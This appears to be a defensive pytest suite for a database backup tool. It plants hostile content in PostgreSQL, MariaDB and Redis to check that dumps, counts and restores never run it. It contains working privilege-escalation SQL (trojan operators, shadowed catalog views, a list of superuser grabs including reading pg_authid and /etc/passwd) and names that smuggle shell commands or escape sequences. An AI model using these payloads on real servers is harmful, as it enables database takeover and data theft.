"""Databases whose content was made to take over whoever asks with more rights: planted, and then
counted, dumped and restored.

`mallory` owns one database of the server and nothing else. All code of hers tells the server's log
who runs it, and makes her a superuser where it can. Her own name there is in order: then she runs
it herself.
"""

import json
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from psycopg.conninfo import conninfo_to_dict, make_conninfo

from safe_compose.core.observed import Container
from safe_compose.databases import mysql, postgres, redis
from safe_compose.databases.engine_container import EngineContainer
from safe_compose.databases.postgres import base_backup, side_by_side
from safe_compose.databases.postgres.connection import Use
from safe_compose.databases.postgres.row_counts import Counting
from safe_compose.databases.postgres.server_facts import parse_facts
from safe_compose.databases.protocol import ServerUnreachable
from safe_compose.databases.redis.discover import is_file_name
from safe_compose.databases.redis.info import parse_keyspace
from safe_compose.engine import Engine
from safe_compose.errors import OperationFailed
from testing.fixtures import ProjectFactory, SafeCompose
from testing.projects import ComposeProject, docker, require_success, unique, wait_until
from testing.terminal import Person

SHOP = """
services:
  db:
    image: postgres:{major}
    command: [postgres, -c, autovacuum=off]
    environment: {{POSTGRES_USER: shop, POSTGRES_PASSWORD: canary-first, POSTGRES_DB: shop}}
    volumes: ["data:{mount}"]
    healthcheck: {{test: [CMD, pg_isready, -q, -h, 127.0.0.1, -U, shop], interval: 1s, retries: 60}}
volumes: {{data: }}
"""
NO_ENGINE: Any = None  # nothing is asked
_IN = (
    "-c role=none -c local_preload_libraries= -c statement_timeout=0 -c"
    " idle_in_transaction_session_timeout=0 -c lock_timeout=0"
)
SAFE = f"{_IN} -c search_path=public,pg_catalog"
"""What the tests themselves connect with: they need her search_path to show that what was planted
works.
"""
PLAIN = (
    f"{_IN} -c search_path=pg_catalog -c default_transaction_read_only=off -c"
    " default_transaction_deferrable=off"
)
_SETTINGS_OF = (
    "SELECT array_to_string(setconfig, ' ') FROM pg_db_role_setting s JOIN pg_database d ON d.oid ="
    " setdatabase WHERE datname = '{}' ORDER BY 1"
)

_CAUGHT = """
CREATE FUNCTION public.caught(what text) RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS $$ BEGIN
  RAISE LOG 'CAUGHT % as %', what, current_user;
  IF current_user = 'shop' AND NOT pg_catalog.current_setting('transaction_read_only')::pg_catalog.bool THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  IF pg_catalog.left(current_user, 13) = 'safe_compose_' THEN PERFORM public.reach(); END IF;
  RETURN 1; END $$;
CREATE FUNCTION public.reach() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$ DECLARE act text; BEGIN
  FOREACH act IN ARRAY ARRAY[
    'ALTER ROLE mallory SUPERUSER', 'ALTER ROLE mallory CREATEDB', 'CREATE ROLE hers', 'CREATE ROLE hers SUPERUSER',
    'ALTER ROLE shop PASSWORD NULL', 'GRANT shop TO mallory', 'GRANT pg_read_server_files TO mallory',
    'SET ROLE shop', 'SET SESSION AUTHORIZATION shop', 'SELECT rolpassword FROM pg_authid',
    'UPDATE pg_authid SET rolsuper = true', 'SELECT pg_read_file($a$PG_VERSION$a$)', 'SELECT pg_ls_dir($a$.$a$)',
    'SELECT lo_export(lo_create(0), $a$/tmp/taken$a$)', 'SELECT lo_import($a$/etc/passwd$a$)',
    'COPY (SELECT 1) TO PROGRAM $a$touch /tmp/taken$a$', 'COPY (SELECT 1) TO $a$/tmp/taken$a$',
    'SET session_replication_role = replica', 'SET log_min_messages = panic', 'LOAD $a$auto_explain$a$',
    'ALTER DATABASE shop SET work_mem = $a$1MB$a$', 'ALTER DATABASE shop OWNER TO mallory',
    'SELECT pg_reload_conf()', 'SELECT pg_switch_wal()', 'CREATE EXTENSION file_fdw', 'CREATE EXTENSION plperlu',
    'SELECT 1 / count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE usename = $a$shop$a$',
    'CREATE FUNCTION public.c() RETURNS int LANGUAGE c AS $a$/tmp/x$a$, $a$y$a$'
  ] LOOP
    BEGIN
      EXECUTE act; RAISE LOG 'CAUGHT took: % as superuser', act;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP; END $$;
"""


def _operator(sign: str, left: str, right: str, answer: str) -> str:
    """One of her own, of the types that statements of ours compare and join."""
    name = re.sub(r"\W", "", f"op_{left}_{right}") + "_".join(str(ord(c)) for c in sign)
    call = f"OPERATOR(pg_catalog.{sign})"
    return (
        f"CREATE FUNCTION public.{name}(a {left}, b {right}) RETURNS {answer} LANGUAGE plpgsql AS"
        f" $$ BEGIN PERFORM public.caught('{sign} {left} {right}'); RETURN a::pg_catalog.text"
        f" {call} b::pg_catalog.text; END $$;CREATE OPERATOR public.{sign} (LEFTARG = {left},"
        f" RIGHTARG = {right}, FUNCTION = public.{name});\n"
    )


OPERATORS = "".join(
    [_operator("||", left, "text", "text") for left in ("bigint", "text", "name", "numeric")]
    + [_operator(sign, a, b, "bool") for sign in ("=", "<>") for a, b in (
        ("name", "name"), ("name", "text"), ("text", "text"), ("oid", "oid"), ("oid", "int"),
        ('"char"', '"char"'), ('"char"', "text"), ("int", "int"), ("inet", "inet"))]
    + [_operator("!~", "name", "text", "bool")]
)  # fmt: skip
NAMES = """
CREATE FUNCTION public.counting(s bigint) RETURNS bigint LANGUAGE sql AS
  $$ SELECT s OPERATOR(pg_catalog.+) public.caught('count') $$;
CREATE AGGREGATE public.count(*) (SFUNC = public.counting, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION public.quote_ident(text) RETURNS text LANGUAGE sql AS
  $$ SELECT public.caught('quote_ident')::pg_catalog.text $$;
CREATE FUNCTION public.quote_ident(name) RETURNS text LANGUAGE sql AS
  $$ SELECT public.caught('quote_ident')::pg_catalog.text $$;
CREATE FUNCTION public.pg_database_size(name) RETURNS bigint LANGUAGE sql AS $$ SELECT public.caught('size')::pg_catalog.int8 $$;
CREATE FUNCTION public.current_setting(text) RETURNS text LANGUAGE sql AS $$ SELECT public.caught('setting')::pg_catalog.text $$;
CREATE FUNCTION public.concat_ws(text, text) RETURNS text LANGUAGE sql AS $$ SELECT public.caught('concat')::pg_catalog.text $$;
CREATE VIEW public.pg_class AS SELECT c.*, public.caught('pg_class') FROM pg_catalog.pg_class c;
CREATE VIEW public.pg_database AS SELECT d.*, public.caught('pg_database') FROM pg_catalog.pg_database d;
CREATE TYPE public.mood AS ENUM ('sad');
CREATE FUNCTION public.to_mood(text) RETURNS public.mood LANGUAGE sql AS
  $$ SELECT public.caught('cast'); SELECT 'sad'::public.mood $$;
CREATE CAST (text AS public.mood) WITH FUNCTION public.to_mood(text) AS IMPLICIT;
"""
CONTENT = """
CREATE TABLE public.goods (id int PRIMARY KEY, n int);
INSERT INTO public.goods SELECT g, g FROM pg_catalog.generate_series(1, 7) g;
CREATE INDEX ON public.goods ((n + 1));
CREATE FUNCTION public.planning() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.caught('planning'); END $$;
CREATE TABLE public.planned (n text, id int CHECK (public.caught('check') = 1)); INSERT INTO public.planned VALUES (E'a\nb', 1), ('\\.', 2), ('7 8', 3);
CREATE INDEX ON public.planned ((id + public.planning()));
CREATE TABLE public.guarded (who text); INSERT INTO public.guarded VALUES ('a'), ('b');
ALTER TABLE public.guarded ENABLE ROW LEVEL SECURITY; ALTER TABLE public.guarded FORCE ROW LEVEL SECURITY;
CREATE POLICY hers ON public.guarded USING (public.caught('policy') = 2);
CREATE VIEW public.seen AS SELECT public.caught('view');
CREATE VIEW public.barrier WITH (security_barrier) AS SELECT * FROM public.goods WHERE public.caught('barrier') = 1;
CREATE TABLE public.parted (a int) PARTITION BY LIST (a);
CREATE TABLE public.parted_1 PARTITION OF public.parted FOR VALUES IN (1);
INSERT INTO public.parted VALUES (1);
CREATE TABLE public.parent (x int); CREATE TABLE public.child (y int) INHERITS (public.parent);
INSERT INTO public.child VALUES (1, 1);
CREATE FUNCTION public.on_row() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.caught('trigger'); RETURN NEW; END $$;
CREATE TRIGGER t BEFORE INSERT ON public.goods FOR EACH ROW EXECUTE FUNCTION public.on_row();
CREATE RULE r AS ON UPDATE TO public.goods DO ALSO SELECT public.caught('rule');
"""
SETTINGS = """
ALTER DATABASE mallory SET search_path = public, pg_catalog;
ALTER ROLE ALL IN DATABASE mallory SET search_path = public, pg_catalog;
ALTER DATABASE mallory SET role = mallory;
ALTER DATABASE mallory SET client_encoding = 'SJIS';
ALTER DATABASE mallory SET standard_conforming_strings = off;
ALTER DATABASE mallory SET backslash_quote = on;
ALTER DATABASE mallory SET quote_all_identifiers = on;
ALTER DATABASE mallory SET transform_null_equals = on;
ALTER DATABASE mallory SET row_security = on;
ALTER DATABASE mallory SET default_transaction_read_only = on;
ALTER DATABASE mallory SET default_transaction_isolation = 'serializable';
ALTER DATABASE mallory SET default_transaction_deferrable = on;
ALTER DATABASE mallory SET statement_timeout = 1;
ALTER DATABASE mallory SET lock_timeout = 1;
ALTER DATABASE mallory SET idle_in_transaction_session_timeout = 1;
ALTER DATABASE mallory SET bytea_output = escape;
ALTER DATABASE mallory SET "DateStyle" = 'SQL, DMY';
ALTER DATABASE mallory SET exit_on_error = on;
ALTER DATABASE mallory SET client_min_messages = error;
ALTER DATABASE mallory SET local_preload_libraries = 'no_such_library';
"""


class PlantedServer:
    """One server with a superuser `shop` and `mallory`'s database."""

    def __init__(self, project: ComposeProject, engine: Engine) -> None:
        self.project = project
        self.engine = engine
        self.name = f"{project.name}-db-1"

    @property
    def container(self) -> Container:
        found = self.engine.docker.container(self.name)
        assert found is not None
        return found

    def sql(
        self,
        text: str,
        database: str = "mallory",
        user: str = "shop",
        options: str = SAFE,
        check: bool = True,
    ) -> str:
        info = make_conninfo(dbname=database, user=user, options=options)
        argv = ("psql", "-XqtA", "-v", "ON_ERROR_STOP=1", "-d", info)
        return docker("exec", "-i", self.name, *argv, input=text, check=check).stdout.strip()

    def caught(self) -> list[str]:
        """What ran as somebody else than mallory, or than the role of ours that may do nothing but
        load her database.
        """
        logged = docker("logs", self.name)
        return re.findall(
            r"CAUGHT (.* as (?!mallory\b|safe_compose_[0-9a-f]{6}\b)\w+)",
            logged.stdout + logged.stderr,
        )

    def is_taken(self) -> bool:
        return (
            self.sql(
                "SELECT rolsuper FROM pg_authid WHERE rolname = 'mallory'", "shop", options=PLAIN
            )
            == "t"
        )


@pytest.fixture(scope="module")
def planted(module_compose_project: ProjectFactory, engine: Engine) -> PlantedServer:
    """Her operators, functions, views and settings in her own database; and, as on every server
    before 15, operators in the databases that everybody may connect to.
    """
    project = module_compose_project(SHOP.format(major=15, mount="/var/lib/postgresql/data"))
    project.up()
    server = PlantedServer(project, engine)
    server.sql(
        "CREATE ROLE mallory LOGIN PASSWORD 'x'; CREATE DATABASE mallory OWNER mallory;",
        "shop",
        options="",
    )
    for database in ("postgres", "template1", "shop"):
        server.sql("GRANT CREATE ON SCHEMA public TO mallory;", database, options="")
        server.sql(_CAUGHT + OPERATORS, database, user="mallory", options="")
    server.sql(
        _CAUGHT + OPERATORS + NAMES + CONTENT, user="mallory", options="-c search_path=pg_catalog"
    )
    server.sql(SETTINGS, user="mallory", options="")
    return server


@pytest.fixture
def untaken(planted: PlantedServer) -> Iterator[PlantedServer]:
    """Nothing of hers ran as anybody else before a test, nor does after it."""
    before = len(planted.caught())
    yield planted
    assert planted.caught()[before:] == []
    assert not planted.is_taken()


# -- what a statement of ours must not run ---------------------------------------------------------


@pytest.mark.engine
@pytest.mark.parametrize(
    ("statement", "what"),
    [
        ("SELECT 1::bigint || 'x'::text", "|| bigint text"),
        ("SELECT 1 FROM pg_catalog.pg_class WHERE relname = 'x'::text LIMIT 1", "= name text"),
        ("SELECT pg_catalog.count(*) FROM pg_class", "pg_class"),
        ("SELECT count(*) FROM public.goods", "count"),
        ("SELECT quote_ident('x'::name)", "quote_ident"),
    ],
)
def test_what_is_planted_takes_over_whoever_asks_without_care(
    planted: PlantedServer, statement: str, what: str
) -> None:
    planted.sql(f"BEGIN; {statement}; ROLLBACK;", options=SAFE)
    assert any(line.startswith(what) for line in planted.caught())


@pytest.mark.thorough
@pytest.mark.engine
def test_the_confirmation_screen_runs_no_code_of_a_database(untaken: PlantedServer) -> None:
    person = Person("compose", "down", "-v", cwd=untaken.project.folder)
    person.sees(f"type '{untaken.project.name}'")
    person.presses("d")
    assert person.leaves_with() == 77
    told = postgres.summary(
        EngineContainer(untaken.engine, untaken.container), timeout=100
    )  # the same, on a busy machine too
    assert told is not None and re.match(
        r"PostgreSQL 15\.\d+, \d databases, \d+ tables, about", told
    ), told


@pytest.mark.engine
def test_a_dump_and_its_counts_run_no_code_of_a_database(
    untaken: PlantedServer, engine: Engine, tmp_path: Path
) -> None:
    server = postgres.server(EngineContainer(engine, untaken.container))
    made = postgres.dump(server, server.volume, tmp_path)
    assert made.was_written_since() is False
    assert "L3" in [
        e.level for e in postgres.verify_dump(tmp_path, made.artifacts, made.statistics)
    ]
    [hers] = [d for d in made.statistics.databases if d.name == "mallory"]
    rows = {t.table: t.rows for t in hers.tables}
    assert rows == {"goods": 7, "guarded": 2, "parted_1": 1, "parent": 0, "child": 1, "planned": 3}
    assert postgres.count(server) == made.statistics.databases


@pytest.mark.thorough
@pytest.mark.engine
def test_a_physical_copy_runs_no_code_of_a_database(
    untaken: PlantedServer, engine: Engine, tmp_path: Path
) -> None:
    server = postgres.server(EngineContainer(engine, untaken.container))
    made = base_backup.copy(server, server.volume, tmp_path)
    assert [a.kind for a in made.artifacts] == ["base"]


@pytest.mark.engine
def test_a_password_is_read_and_changed_without_code_of_a_database(
    untaken: PlantedServer, engine: Engine
) -> None:
    server = postgres.server(EngineContainer(engine, untaken.container))
    kept = postgres.password.role(server, "mallory").verifier
    fresh = postgres.password.verifier("y", "mallory")
    postgres.password.put(server, "mallory", fresh)
    assert postgres.password.role(server, "mallory").verifier == fresh
    postgres.password.put(server, "mallory", kept)
    assert (
        postgres.password.can_log_in(EngineContainer(engine, untaken.container), "mallory", "wrong")
        is False
    )


@pytest.mark.engine
def test_a_restore_beside_the_living_one_runs_no_code_of_either(
    untaken: PlantedServer, safe_compose: SafeCompose
) -> None:
    shop = untaken.project
    require_success(safe_compose("backup", cwd=shop.folder))
    back = require_success(
        safe_compose(
            "restore", "latest", "--database", "mallory", "--confirm", "mallory", cwd=shop.folder
        )
    )
    assert "database mallory" in back.stderr
    logged = docker("logs", untaken.name)
    loaded = re.findall(
        r"CAUGHT (\w+) as safe_compose_[0-9a-f]{6}\b", logged.stdout + logged.stderr
    )
    assert {"check", "planning"} <= set(loaded), "her code ran as the role that loads"
    assert docker("exec", untaken.name, "test", "-e", "/tmp/taken", check=False).returncode == 1
    assert untaken.sql("SELECT count(*) FROM public.goods", options=PLAIN) == "7"
    kept = untaken.sql(_SETTINGS_OF.format("mallory"), "shop", options=PLAIN)
    assert "role=mallory" in kept and "local_preload_libraries=no_such_library" in kept


@pytest.mark.engine
def test_an_empty_database_like_hers_takes_her_settings_and_none_comes_into_our_session(
    untaken: PlantedServer, engine: Engine
) -> None:
    server = postgres.server(EngineContainer(engine, untaken.container))
    side_by_side.make_empty(server, "mallory", "like_hers", exists=True)
    now = [
        sorted(untaken.sql(_SETTINGS_OF.format(name), "shop", options=PLAIN).split())
        for name in ("mallory", "like_hers")
    ]
    untaken.sql("DROP DATABASE like_hers", "shop", options=PLAIN)
    assert now[0] == now[1]


@pytest.mark.engine
def test_a_table_that_becomes_a_view_while_it_is_counted_is_an_error_and_is_not_read(
    untaken: PlantedServer, engine: Engine
) -> None:
    server = postgres.server(EngineContainer(engine, untaken.container))
    with pytest.raises(OperationFailed), server.client.session("mallory") as asked:
        counting = Counting(asked)
        untaken.sql(
            "ALTER TABLE public.goods RENAME TO moved; CREATE VIEW public.goods AS SELECT"
            " public.caught('swapped');ALTER VIEW public.goods OWNER TO mallory;",
            options=PLAIN,
        )
        try:
            counting.finish(counting.start())
        finally:
            untaken.sql(
                "DROP VIEW public.goods; ALTER TABLE public.moved RENAME TO goods;", options=PLAIN
            )


@pytest.mark.engine
def test_a_database_whose_name_has_a_newline_is_named_and_no_line_of_it_is_a_command(
    untaken: PlantedServer, engine: Engine
) -> None:
    name = "x\n\\! touch /tmp/taken\n\\connect shop\n"
    untaken.sql(f'CREATE DATABASE "{name}"', "shop", options=PLAIN)
    try:
        told = postgres.summary(EngineContainer(engine, untaken.container), timeout=100)
        assert told is not None and re.search(r", \d databases, \d+ tables, about", told), told
        with pytest.raises(ServerUnreachable, match="has a newline, so it cannot be dumped"):
            postgres.server(EngineContainer(engine, untaken.container))
    finally:
        untaken.sql(f'DROP DATABASE "{name}"', "shop", options=PLAIN)
    assert docker("exec", untaken.name, "test", "-e", "/tmp/taken", check=False).returncode == 1


@pytest.mark.thorough
@pytest.mark.engine
def test_a_server_that_is_older_than_its_image_says_is_asked_all_the_same(
    untaken: PlantedServer, engine: Engine
) -> None:
    for major in ("18", "", "nonsense"):
        told = replace(
            untaken.container, environment={**untaken.container.environment, "PG_MAJOR": major}
        )
        assert (postgres.summary(EngineContainer(engine, told), timeout=100) or "").startswith(
            "PostgreSQL 15."
        )
    found = postgres.server(EngineContainer(engine, untaken.container))
    untaken.sql("ALTER DATABASE shop SET lc_messages = 'POSIX'", "shop", options=PLAIN)
    for client in (found.client, found.client.by_exec()):
        assert client.ask("shop", "SHOW lc_messages") == "C", (
            "its words are read, whatever language it speaks"
        )
    untaken.sql("ALTER DATABASE shop RESET lc_messages", "shop", options=PLAIN)


@pytest.mark.thorough
@pytest.mark.engine
def test_no_login_trigger_of_a_database_runs_for_us(
    postgres_image: Callable[[int], str],
    compose_project: ProjectFactory,
    engine: Engine,
    tmp_path: Path,
) -> None:
    postgres_image(17)
    project = compose_project(SHOP.format(major=17, mount="/var/lib/postgresql/data"))
    project.up()
    server = PlantedServer(project, engine)
    server.sql(
        "CREATE ROLE mallory LOGIN; CREATE DATABASE mallory OWNER mallory;", "shop", options=""
    )
    server.sql(
        _CAUGHT + "CREATE FUNCTION public.on_login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN "
        "PERFORM public.caught('login'); END $$; CREATE TABLE public.goods AS SELECT 1 AS n;",
        user="mallory", options="-c search_path=pg_catalog",
    )  # fmt: skip
    server.sql(
        "CREATE EVENT TRIGGER hers ON login EXECUTE FUNCTION public.on_login(); ALTER EVENT TRIGGER"
        " hers ENABLE ALWAYS;"
    )
    server.sql("SELECT 1", options="-c default_transaction_read_only=on")
    before = server.caught()
    assert before == ["login as shop"]

    assert (
        postgres.summary(EngineContainer(engine, server.container), timeout=100) or ""
    ).startswith("PostgreSQL 17.")
    found = postgres.server(EngineContainer(engine, server.container))
    made = postgres.dump(found, found.volume, tmp_path)
    assert {d.name: d.rows for d in made.statistics.databases} == {
        "mallory": 1,
        "postgres": 0,
        "shop": 0,
    }
    assert server.caught() == before and not server.is_taken()


# -- settings of a connection, without an engine ---------------------------------------------------


def test_a_connection_that_reads_cannot_write_and_looks_for_names_where_nobody_makes_any() -> None:
    client = postgres.PostgresClient(NO_ENGINE, "c", "i", "shop", major=17)
    read = str(conninfo_to_dict(client.conninfo("mallory", seconds=2.5))["options"])
    for setting in (
        "search_path=pg_catalog,pg_temp", "role=none", "row_security=off", "default_transaction_read_only=on",
        "local_preload_libraries= ", "event_triggers=off", "statement_timeout=2500",
        "default_transaction_isolation=read\\ committed", "lc_messages=C",
    ):  # fmt: skip
        assert f"-c {setting}" in f"{read} "
    assert "event_triggers" not in replace(client, major=16).conninfo("mallory")
    plain = replace(client, superuser=False).conninfo("mallory", Use.LOAD)
    assert "event_triggers" not in plain and "lc_messages" not in plain, (
        "only a superuser may set these"
    )
    loading = client.conninfo("mallory", Use.LOAD)
    assert (
        "search_path" not in loading
        and "client_encoding" not in loading
        and "default_transaction_read_only=off" in loading
    )


# -- a server whose answers were made up -----------------------------------------------------------

FACTS: dict[str, object] = {
    "version": "15.20 (Debian 15.20-0+deb12u1)", "data_directory": "/var/lib/postgresql/data",
    "system_identifier": "7", "started": "2026-11-22T07:27:00Z", "bootstrap": b"shop".hex(),
    "databases": [b"shop".hex()], "undumped": None, "closed": None, "tablespaces": None, "settings": None,
    "prepared": 0, "slots": 0, "standby": False, "template": None, "lenient": None, "sessions": None,
}  # fmt: skip


def test_facts_of_a_server_are_taken_only_in_the_form_that_a_server_gives_them() -> None:
    assert parse_facts(json.dumps(FACTS))["version"] == "15.20"
    assert parse_facts(json.dumps({**FACTS, "version": "17beta1"}))["version"] == "17beta1"
    for name, value in (
        ("version", "[bold]15"), ("version", "15.1\x1b[2J"), ("version", ""), ("version", 15), ("version", "9" * 5000),
        ("databases", [1]), ("databases", [b"a\0b".hex()]), ("databases", ["\ud800"]), ("databases", "shop"),
        ("databases", [None]),
        ("data_directory", "relative"), ("data_directory", "/var/lib/postgresql/data/../../etc"), ("data_directory", None),
        ("prepared", "many"), ("prepared", float("nan")), ("prepared", float("inf")), ("slots", None), ("settings", ["x"]),
        ("settings", {"max_prepared_transactions": 3}), ("tablespaces", [["only one"]]), ("bootstrap", ["shop"]),
    ):  # fmt: skip
        with pytest.raises((ValueError, TypeError, LookupError, AttributeError, ArithmeticError)):
            parse_facts(json.dumps({**FACTS, name: value}))
    for name in FACTS:
        with pytest.raises(LookupError):
            parse_facts(json.dumps({key: value for key, value in FACTS.items() if key != name}))


@pytest.fixture(scope="module")
def liar(lab: None) -> Iterator[str]:
    """A container in which clients of databases are scripts of the test's."""
    name = unique("liar")
    docker(
        "run",
        "-d",
        "--name",
        name,
        "--network",
        "none",
        "-e",
        "PG_MAJOR=15",
        "busybox:latest",
        "sleep",
        "100000",
    )
    yield name
    docker("rm", "-fv", name)


CLIENTS = ((postgres, "psql"), (mysql, "mariadb"), (redis, "redis-cli"))


def _say(name: str, script: str) -> None:
    """Have the client of every kind of server run that script."""
    programs = " ".join(f"/bin/{program}" for _, program in CLIENTS)
    write = f"tee {programs} >/dev/null && chmod 755 {programs}"
    docker("exec", "-i", name, "sh", "-c", write, input=f"#!/bin/sh\n{script}\n")


LIES = {
    "without end": "yes 0123456789",
    "one line without end": "cat /dev/zero",
    "nested": "head -c 200000 /dev/zero | tr '\\0' '['",
    "no number": "echo NaN",
    "nothing": "true",
    "no object": "echo '[1, 2]'",
    "a number of 5000 digits": "head -c 5000 /dev/zero | tr '\\0' 9",
    "the half of it": """echo '{"version": "15.1", "databases": ["x"]}'""",
    "bytes": "printf '\\377\\376\\033[2J'",
}


@pytest.mark.thorough
@pytest.mark.engine
@pytest.mark.parametrize("lie", LIES)
def test_a_server_that_answers_anything_is_not_understood_and_nothing_fails(
    liar: str, engine: Engine, lie: str
) -> None:
    container = engine.docker.container(liar)
    assert container is not None
    _say(liar, LIES[lie])
    for module, _ in CLIENTS:
        with pytest.raises(ServerUnreachable):
            module.server(EngineContainer(engine, container))  # type: ignore[attr-defined]
        assert module.summary(EngineContainer(engine, container), timeout=60) is None  # type: ignore[attr-defined]


@pytest.mark.engine
def test_a_server_that_never_answers_is_given_up_in_time(liar: str, engine: Engine) -> None:
    container = engine.docker.container(liar)
    assert container is not None
    _say(liar, "exec sleep 100")
    for module, _ in CLIENTS:
        begun = time.monotonic()
        assert module.summary(EngineContainer(engine, container), timeout=1) is None  # type: ignore[attr-defined]
        assert time.monotonic() - begun < 60


# -- MariaDB ---------------------------------------------------------------------------------------

MARIADB = """
services:
  db:
    image: mariadb:10.11
    command: [mariadbd, "--sql-mode=ANSI_QUOTES,NO_BACKSLASH_ESCAPES,PAD_CHAR_TO_FULL_LENGTH,PIPES_AS_CONCAT", --local-infile=1]
    environment: {MARIADB_ROOT_PASSWORD: canary-root}
    volumes: ["data:/var/lib/mysql"]
    healthcheck: {test: [CMD, mariadb-admin, ping, -h127.0.0.1, -uroot, -pcanary-root], interval: 1s, retries: 90}
volumes: {data: }
"""
HER_VIEWS = r"""
CREATE TABLE shop.taken (who varchar(100), what varchar(100)) ENGINE=MyISAM;
CREATE TABLE shop.goods (id int PRIMARY KEY, n int, twice int AS (n * 2) VIRTUAL);
INSERT INTO shop.goods (id, n) VALUES (1, 1), (2, 2);
CREATE TABLE shop.`x\` (a int); CREATE TABLE shop.`a`` b
\! touch /tmp/taken
delimiter ;` (a int);
DELIMITER //
CREATE FUNCTION shop.taken(what text) RETURNS int SQL SECURITY INVOKER MODIFIES SQL DATA BEGIN
  INSERT INTO shop.taken VALUES (CURRENT_USER(), what); RETURN 1; END//
CREATE FUNCTION shop.counted() RETURNS int SQL SECURITY INVOKER RETURN shop.taken('nested')//
DELIMITER ;
CREATE SQL SECURITY INVOKER VIEW shop.v1 AS SELECT shop.taken('plain') AS x;
CREATE SQL SECURITY INVOKER VIEW shop.v2 AS SELECT * FROM (SELECT shop.taken('derived') AS x) d;
CREATE SQL SECURITY INVOKER VIEW shop.v3 AS SELECT n FROM shop.goods WHERE n = (SELECT shop.taken('subquery'));
CREATE ALGORITHM=TEMPTABLE SQL SECURITY INVOKER VIEW shop.v4 AS SELECT shop.taken('temptable') AS x;
CREATE SQL SECURITY INVOKER VIEW shop.v5 AS SELECT shop.taken('one') AS x UNION SELECT shop.counted();
CREATE SQL SECURITY INVOKER VIEW shop.v6 AS SELECT count(*) AS x FROM shop.goods GROUP BY n HAVING shop.taken('having');
CREATE TRIGGER shop.t BEFORE INSERT ON shop.goods FOR EACH ROW SET @x = shop.taken('trigger');
CREATE DATABASE `---- safe-compose: answered ----`; CREATE TABLE `---- safe-compose: answered ----`.t (a int);
CREATE DATABASE `zz"[bold]'\`; CREATE TABLE `zz"[bold]'\`.t AS SELECT 1 AS a;
"""


@pytest.mark.thorough
@pytest.mark.engine
def test_views_functions_modes_and_names_of_mariadb_take_nobody_over(
    compose_project: ProjectFactory, engine: Engine, tmp_path: Path
) -> None:
    project = compose_project(MARIADB)
    project.up()
    name = f"{project.name}-db-1"

    def sql(text: str, user: str = "root", password: str = "canary-root") -> str:
        argv = (
            "mariadb",
            f"-u{user}",
            "--batch",
            "--skip-column-names",
            "--init-command=SET SESSION sql_mode=''",
        )
        return docker(
            "exec", "-i", "-e", f"MYSQL_PWD={password}", name, *argv, input=text
        ).stdout.strip()

    sql("CREATE DATABASE shop; CREATE USER mallory IDENTIFIED BY 'm'; GRANT ALL ON shop.* TO mallory; GRANT ALL ON `zz%`.* TO "
        "mallory; GRANT ALL ON `----%`.* TO mallory;")  # fmt: skip
    sql(HER_VIEWS, "mallory", "m")
    sql("SELECT * FROM shop.v1")
    assert sql("SELECT * FROM shop.taken; TRUNCATE shop.taken;") == "root@localhost\tplain"

    container = engine.docker.container(name)
    assert container is not None
    told = mysql.summary(EngineContainer(engine, container), timeout=100)
    assert told is not None and re.match(
        r"MariaDB 10\.11\.\d+, 3 databases, 6 tables, about", told
    ), told
    server = mysql.server(EngineContainer(engine, container))
    assert server.databases == ("---- safe-compose: answered ----", "shop", "zz\"[bold]'\\")
    made = mysql.dump(server, server.volume, tmp_path)
    assert "L3" in [e.level for e in mysql.verify_dump(tmp_path, made.artifacts, made.statistics)]
    assert {d.name: d.rows for d in made.statistics.databases} == dict(
        zip(server.databases, (0, 2, 1), strict=True)
    )
    assert mysql.password.role(server, "mallory").verifier
    assert sql("SELECT * FROM shop.taken") == ""
    assert docker("exec", name, "test", "-e", "/tmp/taken", check=False).returncode == 1


# -- Redis -----------------------------------------------------------------------------------------


@pytest.mark.thorough
@pytest.mark.engine
def test_the_value_of_one_setting_of_redis_does_not_pass_for_another(
    compose_project: ProjectFactory, engine: Engine
) -> None:
    project = compose_project(
        'services: {db: {image: "redis:7", command: [redis-server, --save, "",'
        ' --enable-protected-configs, "yes"], volumes: ["data:/data"]}}\nvolumes: {data: }'
    )
    project.up()
    name = f"{project.name}-db-1"
    container = engine.docker.container(name)
    assert container is not None
    wait_until(
        "it answers",
        lambda: docker("exec", name, "redis-cli", "PING", check=False).stdout == "PONG\n",
    )
    assert redis.server(EngineContainer(engine, container)).memory_only
    for planted in ("dump.rdb\nappendonly\nyes", "--loadmodule", "x\x1b[2J"):
        assert (
            docker("exec", name, "redis-cli", "CONFIG", "SET", "dbfilename", planted).stdout
            == "OK\n"
        )
        with pytest.raises(ServerUnreachable, match="the name of its file is none"):
            redis.server(EngineContainer(engine, container))
    docker("exec", name, "redis-cli", "CONFIG", "SET", "dbfilename", "dump.rdb")
    found = redis.server(EngineContainer(engine, container))
    assert found.memory_only and found.folder == "." and not found.appends


def test_numbers_and_names_that_no_redis_gives_are_none() -> None:
    huge = "9" * 5000
    counted = parse_keyspace(
        f"db0:keys=\u00b2,expires={huge}\ndb{huge}:keys=1\ndb1:keys=3,expires=1"
    )
    assert [(d.name, d.rows) for d in counted] == [("0", 0), ("1", 3)]
    assert not any(map(is_file_name, ("", ".", "..", "a/b", "-x", "a\nb", "\x1b", "\ud800")))
    assert is_file_name("dump.rdb")
